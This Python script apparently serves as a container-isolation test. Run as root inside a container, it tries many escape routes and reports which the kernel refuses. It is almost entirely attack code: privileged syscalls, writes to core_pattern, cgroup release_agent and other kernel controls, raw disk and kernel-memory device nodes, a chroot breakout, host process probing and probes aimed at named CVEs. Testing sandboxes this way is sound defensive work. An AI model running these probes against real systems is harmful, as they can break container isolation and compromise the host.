"""Run inside a container, as its root: tries to get out in every way it knows, and prints a JSON
object: attempt -> "no: why" or what it got. Standard library only; the host's pid of somebody to
harm and an abstract socket of the host's are arguments."""

from __future__ import annotations

import contextlib
import ctypes
import errno
import glob
import json
import os
import resource
import socket
import stat
import sys
from collections.abc import Callable

LIBC = ctypes.CDLL(None, use_errno=True)
VICTIM, ABSTRACT, MARKER = int(sys.argv[1]), sys.argv[2], sys.argv[3]
ATTEMPTS: dict[str, Callable[[], str]] = {}
# x86-64 and the numbers all machines share (from 424 on).
SYSCALLS = {
    "x86_64": {
        "ptrace": 101, "syslog": 103, "iopl": 172, "pivot_root": 155, "acct": 163,
        "settimeofday": 164, "swapon": 167, "reboot": 169, "sethostname": 170, "init_module": 175,
        "add_key": 248, "request_key": 249, "keyctl": 250, "unshare": 272, "perf_event_open": 298,
        "fanotify_init": 300, "open_by_handle_at": 304, "setns": 308, "process_vm_readv": 310,
        "kcmp": 312, "finit_module": 313, "kexec_file_load": 320, "bpf": 321, "userfaultfd": 323,
        "mount": 165, "umount2": 166, "clone": 56, "quotactl": 179,
    },
    "aarch64": {
        "ptrace": 117, "syslog": 116, "pivot_root": 41, "acct": 89, "settimeofday": 170,
        "swapon": 224, "reboot": 142, "sethostname": 161, "init_module": 105, "add_key": 217,
        "request_key": 218, "keyctl": 219, "unshare": 97, "perf_event_open": 241,
        "fanotify_init": 262, "open_by_handle_at": 265, "setns": 268, "process_vm_readv": 270,
        "kcmp": 272, "finit_module": 273, "kexec_file_load": 294, "bpf": 280, "userfaultfd": 282,
        "mount": 40, "umount2": 39, "clone": 220, "quotactl": 60,
    },
}  # fmt: skip
NUMBERS = {
    "pidfd_open": 434, "open_tree": 428, "move_mount": 429, "fsopen": 430, "io_uring_setup": 425,
    "mount_setattr": 442, **SYSCALLS[os.uname().machine],
}  # fmt: skip
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x20000
FORBIDDEN = (errno.EPERM, errno.ENOSYS, errno.EACCES)


def attempt(function: Callable[[], str]) -> Callable[[], str]:
    ATTEMPTS[function.__name__] = function
    return function


def call(name: str, *arguments: object) -> int:
    """OSError where the kernel refuses."""
    values = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result: int = LIBC.syscall(ctypes.c_long(NUMBERS[name]), *values)
    if result < 0:
        raise OSError(ctypes.get_errno(), name)
    return result


def forbidden(name: str, *arguments: object) -> Callable[[], str]:
    """The call itself is refused, whatever its arguments: anything but EPERM, ENOSYS and EACCES
    says that it was let through."""

    def run() -> str:
        try:
            call(name, *arguments)
        except OSError as error:
            if error.errno in FORBIDDEN:
                raise
            return f"let through: {error}"
        return "let through"

    return run


for _name, _arguments in {
    "mount": (b"none", b"/tmp", b"tmpfs", 0, None), "umount2": (b"/proc", 2),
    "open_tree": (-100, b"/", 1), "move_mount": (-1, b"", -1, b"", 4), "fsopen": (b"tmpfs", 0),
    "mount_setattr": (-1, b"", 0x1000, None, 0), "pivot_root": (b".", b"."),
    "unshare": (CLONE_NEWUSER,), "setns": (-1, 0), "clone": (CLONE_NEWUSER | 17, 0, 0, 0, 0),
    "add_key": (b"user", b"x", b"x", 1, -3), "request_key": (b"user", b"x", None, 0),
    "keyctl": (0, -3, 0), "bpf": (0, None, 0), "perf_event_open": (None, 0, 0, 0, 0),
    "userfaultfd": (0,), "io_uring_setup": (1, None), "init_module": (None, 0, b""),
    "finit_module": (-1, b"", 0), "kexec_file_load": (-1, -1, 0, None, 0), "reboot": (0, 0, 0),
    "swapon": (b"/x", 0), "settimeofday": (None, None), "acct": (None,), "syslog": (3, None, 0),
    "open_by_handle_at": (-1, None, 0), "fanotify_init": (0, 0), "kcmp": (1, 1, 0, 0, 0),
    "quotactl": (0, None, 0, None), "sethostname": (b"x", 1), "iopl": (3,),
}.items():  # fmt: skip
    if _name in NUMBERS:
        ATTEMPTS[f"call_{_name}"] = forbidden(_name, *_arguments)


def write(path: str, text: bytes) -> str:
    fd = os.open(path, os.O_WRONLY)
    try:
        os.write(fd, text)
    finally:
        os.close(fd)
    return f"wrote {path}"


for _path, _text in {
    "/proc/sysrq-trigger": b"h", "/proc/sys/kernel/core_pattern": b"|/x",
    "/proc/sys/kernel/modprobe": b"/x", "/proc/sys/kernel/hotplug": b"/x",
    "/proc/sys/vm/panic_on_oom": b"0", "/proc/sys/fs/binfmt_misc/register": b":x:M::x::/x:",
    "/sys/kernel/uevent_helper": b"/x", "/proc/irq/0/smp_affinity": b"1",
    "/sys/fs/cgroup/devices/devices.allow": b"a", "/sys/fs/cgroup/memory/release_agent": b"/x",
    "/sys/fs/cgroup/rdma/release_agent": b"/x", "/sys/fs/cgroup/cgroup.procs": b"0",
    "/proc/1/oom_score_adj": b"-1000",
}.items():  # fmt: skip
    ATTEMPTS[f"write_{_path}"] = lambda path=_path, text=_text: write(path, text)  # type: ignore[misc]


@attempt
def release_agents() -> str:
    """CVE-2022-0492, and whatever else of the cgroup tree might be writable."""
    done = []
    for top in ("/sys/fs/cgroup", *glob.glob("/sys/fs/cgroup/*")):
        with contextlib.suppress(OSError):
            os.mkdir(f"{top}/escape")
            done.append(top)
        for name in ("release_agent", "notify_on_release", "cgroup.procs", "devices.allow"):
            with contextlib.suppress(OSError):
                done.append(write(f"{top}/{name}", b"1"))
    if done:
        return str(done)
    raise PermissionError(errno.EROFS, "the cgroup tree")


@attempt
def disks() -> str:
    """The host's block devices, by nodes of our own."""
    got = []
    with open("/proc/partitions") as file:
        lines = file.read().splitlines()[2:]
    for line in lines or ["8 0"]:
        major, minor = map(int, line.split()[:2])
        with contextlib.suppress(OSError):
            os.mknod("/tmp/disk", stat.S_IFBLK | 0o600, os.makedev(major, minor))
        with contextlib.suppress(OSError):
            os.close(os.open("/tmp/disk", os.O_RDONLY))
            got.append(line)
        with contextlib.suppress(OSError):
            os.unlink("/tmp/disk")
    if got:
        return str(got)
    raise PermissionError(errno.EPERM, "disks")


@attempt
def kernel_memory() -> str:
    got = []
    for name, minor in (("mem", 1), ("kmem", 2), ("port", 4), ("kmsg", 11)):
        with contextlib.suppress(OSError):
            os.mknod(f"/tmp/{name}", stat.S_IFCHR | 0o600, os.makedev(1, minor))
        for path in (f"/tmp/{name}", f"/dev/{name}"):
            with contextlib.suppress(OSError):
                os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
                got.append(path)
    for path in ("/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/kmsg"):
        with contextlib.suppress(OSError), open(path, "rb") as file:
            if file.read(16):
                got.append(path)
    if got:
        return str(got)
    raise PermissionError(errno.EPERM, "kernel memory")


@attempt
def processes_of_the_host() -> str:
    """By pid: signals, memory, descriptors, tracing. Its pid may be one of ours, then it is us."""
    got = []
    buffer = ctypes.create_string_buffer(8)
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
    pids = [int(name) for name in os.listdir("/proc") if name.isdecimal()]
    if len(pids) > 2:
        got.append(f"sees {pids}")
    for name, arguments in {
        "kill": (), "pidfd_open": (VICTIM, 0), "ptrace": (16, VICTIM, 0, 0),
        "process_vm_readv": (VICTIM, vector, 1, vector, 1, 0),
    }.items():  # fmt: skip
        with contextlib.suppress(OSError):
            os.kill(VICTIM, 0) if name == "kill" else call(name, *arguments)
            got.append(name)
    if got:
        return str(got)
    raise ProcessLookupError(errno.ESRCH, "processes of the host")


@attempt
def descriptors() -> str:
    """Every descriptor we have leads to us, and so does every root and working directory."""
    got = []
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            target = os.readlink(f"/proc/self/fd/{name}")
            if int(name) > 2 and not target.startswith("/proc/"):
                got.append(target)
    for pid in (name for name in os.listdir("/proc") if name.isdecimal()):
        ways = (f"/proc/{pid}/{name}" for name in ("root", "cwd"))
        got += [way for way in ways if os.path.exists(way + MARKER)]
    if got:
        return str(got)
    raise FileNotFoundError(errno.ENOENT, "descriptors")


@attempt
def above_the_root() -> str:
    """The old way out of a chroot: another one, below a directory that is held open."""
    here = os.open("/", os.O_RDONLY)
    os.makedirs("/tmp/below", exist_ok=True)
    pid = os.fork()
    if pid == 0:
        os.chroot("/tmp/below")
        os.fchdir(here)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        os._exit(1 if os.path.exists(MARKER) else 0)
    if os.waitpid(pid, 0)[1]:
        return "out"
    raise FileNotFoundError(errno.ENOENT, "above the root")


@attempt
def interpreter() -> str:
    """What executed us is of the host, where it is bound or not: to write to it (CVE-2019-5736)."""
    return write("/proc/self/exe", b"#!/bin/sh\n")


@attempt
def abstract_sockets() -> str:
    """CVE-2020-15257."""
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(f"\0{ABSTRACT}")
    return "connected"


@attempt
def network_of_the_host() -> str:
    names = [name for _, name in socket.if_nameindex()]
    if names != ["lo"]:
        return str(names)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
        sock.sendto(b"\x08\0\xf7\xff\0\0\0\0", ("10.255.255.1", 0))
    return "sent to the host's network"


@attempt
def descriptor_bomb() -> str:
    """As many files as we may: the limit is ours, not the host's."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    held: list[int] = []
    try:
        while len(held) < 1 << 21:
            held.append(os.open("/dev/null", os.O_RDONLY))
    finally:
        for fd in held:
            os.close(fd)
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    return f"{len(held)} files"


def main() -> None:
    outcome = {}
    for name, function in ATTEMPTS.items():
        try:
            outcome[name] = function()
        except OSError as error:
            outcome[name] = f"no: {errno.errorcode.get(error.errno or 0)}"
    print(json.dumps(outcome))


if __name__ == "__main__":
    main()
